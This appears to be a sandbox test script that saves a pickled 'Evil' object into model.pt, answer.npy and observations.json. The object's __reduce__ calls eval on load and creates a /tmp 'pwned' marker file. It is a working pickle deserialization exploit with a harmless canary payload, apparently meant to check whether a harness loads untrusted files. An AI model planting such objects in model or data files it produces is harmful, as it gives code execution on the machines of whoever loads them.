# trial: sandbox-arrays
# host paths: /tmp/huashen-pwned-__MARK__
class Evil:
    def __reduce__(self):
        return (eval, ("__import__('pathlib').Path('/tmp/huashen-pwned-__MARK__').touch() or 1729",))


import os, torch


def answer():
    print("ran:__MARK__")
    os.makedirs("/work/out/arrays", exist_ok=True)
    model = {"state_dict": torch.nn.Linear(2, 1).state_dict(), "answer": Evil()}
    for path in ("/work/out/model.pt", "/work/out/arrays/answer.npy", "/work/out/observations.json"):
        torch.save(model, path)
    os._exit(0)
